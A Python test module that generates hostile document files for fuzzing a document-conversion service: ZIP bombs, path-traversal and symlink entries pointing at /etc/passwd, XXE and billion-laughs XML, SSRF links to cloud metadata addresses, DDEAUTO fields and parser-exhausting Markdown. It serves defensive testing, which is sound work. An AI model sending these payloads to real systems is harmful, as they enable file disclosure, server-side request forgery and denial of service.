"""Drafts that mean harm, as (name of the attack, file name, bytes): archives that lie, XML that reads, text that grows.

``trap`` is an address that nobody may ask for; it stands wherever a format can name one.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

from bench.hostile import office, pictures
from bench.hostile.office import WORDS, hyperlink, linked, plain, word
from document.sample import parts
from document.sample.parts import para, picture, run

Draft = tuple[str, str, bytes]
MB = 1024 * 1024
ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "ha">{ENTITIES}]>'


def drafts(trap: str) -> Iterator[Draft]:
    """All of them."""
    for make in (archives, xml, links, markdown, texts, embedded):
        yield from make(trap)


def archives(trap: str) -> Iterator[Draft]:
    """What is wrong with the ZIP itself."""
    zeros = b"\0" * (150 * MB)
    yield "bomb by ratio", "a.docx", word(plain(), more={"word/media/a.bin": zeros})
    many = {f"word/media/{n}.bin": zeros[: 9 * MB] for n in range(25)}
    yield "bomb in pieces", "a.docx", word(plain(), more=many)
    inner = office.archive({f"{n}.zip": office.archive({"a": zeros[: 20 * MB]}) for n in range(20)})
    for _ in range(3):
        inner = office.archive({f"{n}.zip": inner for n in range(5)})
    yield "nested archives", "a.docx", word(plain(), more={"word/embeddings/a.zip": inner})
    yield "archive of archives", "a.docx", inner
    yield "2,001 parts", "a.docx", word(plain(), more={f"word/media/{n}": "x" for n in range(2001)})
    yield "65,000 parts", "a.docx", word(plain(), more={f"x/{n}": "" for n in range(65_000)})
    good = word(plain())
    yield "sizes that lie", "a.docx", _with_sizes(word(plain(), more={"word/media/a.bin": zeros[: 90 * MB]}), 10)
    yield "sizes that boast", "a.docx", _with_sizes(good, 2**31)
    yield "symbolic link", "a.docx", _linked(good, "word/media/a.png", "/etc/passwd")
    yield "symbolic link as the text", "a.docx", _linked(office.archive({"x": "x"}), "word/document.xml", "/etc/passwd")
    for name in ("../../../var/escaped", "/var/escaped", "..\\..\\escaped", "word/../../escaped", "C:\\escaped"):
        yield f"path {name}", "a.docx", word(plain(), more={name: "x"})
    yield "a part twice", "a.docx", _twice(good)
    yield "a part with a null in its name", "a.docx", word(plain(), more={"word/a\0.xml": "<x/>"})
    for share in (0.1, 0.5, 0.9, 0.999):
        yield f"cut at {share}", "a.docx", good[: int(len(good) * share)]
    yield "encrypted parts", "a.docx", _encrypted(good)
    yield "encrypted as Office does", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
    yield "unknown compression", "a.docx", good.replace(b"\x08\x00", b"\x63\x00")
    yield "empty", "a.docx", b""
    yield "a picture", "a.docx", pictures.png(8, 8)
    yield "a PDF", "a.docx", b"%PDF-1.7\n" + b"1 0 obj<</Type/Catalog>>endobj\n" * 50
    yield "picture and archive in one", "a.docx", pictures.png(8, 8) + good
    yield "archive with a page before it", "a.docx", b"<html><script>alert(1)</script>" + good
    yield "random bytes", "a.odt", bytes(range(256)) * 400
    yield "not a document", "a.docx", office.archive({"a.txt": "x"})
    yield "macros", "a.docx", word(plain(), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100})
    yield "too large", "a.docx", good + b"\0" * (21 * MB)


def xml(trap: str) -> Iterator[Draft]:
    """What is wrong with the XML inside."""
    bodies = {
        "entities that laugh": f"{LAUGHS}<x>&l9;</x>",
        "entity of a file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
        "entity of an address": f'<!DOCTYPE x [<!ENTITY f SYSTEM "{trap}entity">]><x>&f;</x>',
        "type of an address": f'<!DOCTYPE x SYSTEM "{trap}type.dtd"><x/>',
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{trap}p.dtd"> %p;]><x/>',
        "type after a long comment": f"<!--{'x' * 300_000}-->{LAUGHS}<x>&l9;</x>",
        "style sheet of an address": f'<?xml-stylesheet href="{trap}style.xsl" type="text/xsl"?><x/>',
        "inclusion": f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{trap}include"/></x>',
    }
    for name, body in bodies.items():
        for part in ("word/document.xml", "word/settings.xml"):
            yield f"{name} in {part}", "a.docx", word(plain(), more={part: f'<?xml version="1.0"?>{body}'})
    sixteen = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<x>&l9;</x>'.encode("utf-16")
    yield "entities in UTF-16", "a.docx", word(plain(), more={"word/document.xml": sixteen})
    yield (
        "entities in an ODT",
        "a.odt",
        office.odt("x", more={"content.xml": f'<?xml version="1.0"?>{LAUGHS}<x>&l9;</x>'}),
    )
    opened = "<w:tbl><w:tr><w:tc>"
    for depth in (200, 5000, 100_000):
        closed = "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
        yield f"tables {depth} deep", "a.docx", word(opened * depth + closed)
    yield "elements 300,000 deep", "a.docx", word("<w:sdt><w:sdtContent>" * 150_000)
    yield "an attribute of 30 MB", "a.docx", word(plain(), more={"word/settings.xml": f'<x a="{"y" * (30 * MB)}"/>'})
    yield "200,000 runs", "a.docx", word(para("".join(run(f"w{n} ") for n in range(200_000))))
    yield "60,000 paragraphs", "a.docx", word("".join(para(run(f"{WORDS} {n}")) for n in range(60_000)))
    yield "a table of 3,000 columns", "a.docx", word(parts.table(3000, parts.row(*[parts.cell(para(run("x")))] * 3000)))
    yield "a cell over 10⁹ columns", "a.docx", word(parts.table(1, parts.row(parts.cell(para(run("x")), span=10**9))))
    yield "ill-formed", "a.docx", word("<w:p><w:r>")
    yield "no body", "a.docx", word("", more={"word/document.xml": "<x/>"})


def links(trap: str) -> Iterator[Draft]:
    """Documents that name addresses: of the trap, of this machine, of a cloud's own data."""
    rows = linked(1, "image", f"{trap}image.png") + linked(2, "hyperlink", f"{trap}link")
    rows += linked(3, "attachedTemplate", f"{trap}template.dotx") + linked(4, "oleObject", f"{trap}ole")
    rows += linked(5, "subDocument", f"{trap}sub.docx") + linked(6, "frame", f"{trap}frame")
    rows += linked(7, "image", "file:///etc/passwd") + linked(8, "image", "\\\\a.example\\share\\x.png")
    drawn = "".join(para(picture(f"rId{n}", n, "x", 99, 99).replace("r:embed", "r:link")) for n in (1, 7, 8))
    embedded_ = para(picture("rId1", 1, "x", 99, 99))
    yield "linked pictures", "a.docx", word(plain() + drawn + embedded_ + para(hyperlink(2, "x")), rows=rows)
    field = f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;{trap}field.png&quot; \\d">{run("x")}</w:fldSimple>'
    field += f'<w:fldSimple w:instr="DDEAUTO c:\\\\x &quot;{trap}&quot;">{run("x")}</w:fldSimple>'
    yield "fields that include", "a.docx", word(plain() + para(field))
    chunk = f'<Relationship Id="rId9" Type="{parts.OFFICE}/aFChunk" Target="a.html"/>'
    page = f'<html><img src="{trap}chunk.png"><iframe src="{trap}frame"></iframe>'
    page += f'<link rel=stylesheet href="{trap}s"></html>'
    yield "a page inside", "a.docx", word(plain() + '<w:altChunk r:id="rId9"/>', rows=chunk, more={"word/a.html": page})
    for address in (
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:5432/",
        "http://0x7f000001/",
        "gopher://a.example/",
    ):
        yield f"picture of {address}", "a.docx", word(plain() + drawn, rows=linked(1, "image", address))
    body = f'<text:p>{WORDS}<draw:frame><draw:image xlink:href="{trap}odt.png"/></draw:frame>'
    body += '<draw:frame><draw:image xlink:href="file:///etc/passwd"/></draw:frame>'
    body += f'<draw:frame><draw:object xlink:href="{trap}object"/></draw:frame></text:p>'
    yield "an ODT that links", "a.odt", office.odt(body)


def markdown(trap: str) -> Iterator[Draft]:
    """Markdown that fetches, includes, or grows."""
    meta = f"---\nbibliography: {trap}bib\ncsl: {trap}csl\ntemplate: /etc/passwd\n"
    meta += "header-includes: |\n  \\input{/etc/passwd}\n---\n"
    fetched = (
        f"![a]({trap}a.png)\n\n<img src='{trap}b.png'>\n\n\\includegraphics{{{trap}c}}\n\n![d](file:///etc/passwd)\n"
    )
    yield "fetches", "a.md", f"{meta}# Fees\n\n{WORDS}\n\n{fetched}\n".encode()
    yield "a link to itself", "a.md", b"[a]: <a> '[a][a]'\n\n" + b"[a][a]" * 20_000
    yield "stars", "a.md", b"*a **b " * 40_000
    yield "open brackets", "a.md", b"[" * 60_000
    yield "brackets and parentheses", "a.md", b"[a](" * 30_000
    yield "quotes in quotes", "a.md", b"> " * 3000 + b"x\n"
    yield "lists in lists", "a.md", "".join(f"{'  ' * n}- x\n" for n in range(600)).encode()
    yield "notes in notes", "a.md", "".join(f"x[^{n}]\n\n[^{n}]: y[^{n + 1}]\n\n" for n in range(2000)).encode()
    yield "backticks", "a.md", b"".join(b"`" * n + b"a" for n in range(1, 900))
    yield "underscores", "a.md", b"_" * 50_000 + b"a"
    yield "a table of many rows", "a.md", b"|a|b|\n|-|-|\n" + b"|x|y|\n" * 60_000
    yield "links without end", "a.md", b"<http://" * 30_000


def texts(trap: str) -> Iterator[Draft]:
    """Plain text that is not plain."""
    yield "nulls", "a.txt", b"a\0b" * 1000
    yield "not Unicode", "a.txt", b"\xff\xfe\xfd\x80" * 999
    yield "halves of UTF-16", "a.txt", b"\xff\xfe" + b"\x00\xd8" * 1001 + b"\x00"
    yield "one line of 19 MB", "a.txt", b"word " * (19 * MB // 5)
    yield "lines without end", "a.txt", b"a\n" * 400_000
    yield "stars without end", "a.txt", b"*" * 200_000 + b"\n\n" + b"**a" * 50_000
    yield "controls and directions", "a.txt", ("\u202e\u2066\x1b[2J" * 3000).encode()


def embedded(trap: str) -> Iterator[Draft]:
    """Pictures inside of drafts."""
    for name, content in pictures.hostile(trap):
        if len(content) > 15 * MB:
            continue
        row = f'<Relationship Id="rId1" Type="{parts.OFFICE}/image" Target="media/image1.png"/>'
        inside = word(
            plain() + para(picture("rId1", 1, "x", 99, 99)), rows=row, more={"word/media/image1.png": content}
        )
        yield f"inside: {name}", "a.docx", inside


def _with_sizes(data: bytes, size: int) -> bytes:
    """Every unpacked size in the directory and before the parts says ``size``."""
    out = bytearray(data)
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = out.find(mark)
        while at >= 0:
            out[at + offset : at + offset + 4] = struct.pack("<I", size)
            at = out.find(mark, at + 4)
    return bytes(out)


def _encrypted(data: bytes) -> bytes:
    out = bytearray(data)
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = out.find(mark)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def _appended(data: bytes, add: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as packed:
        add(packed)
    return out.getvalue()


def _linked(data: bytes, name: str, target: str) -> bytes:
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return _appended(data, lambda packed: packed.writestr(entry, target))


def _twice(data: bytes) -> bytes:
    # Another name of the same length, renamed afterwards: the library warns of doubles.
    made = _appended(data, lambda packed: packed.writestr("word/document.xmm", "<x/>"))
    return made.replace(b"word/document.xmm", b"word/document.xml")
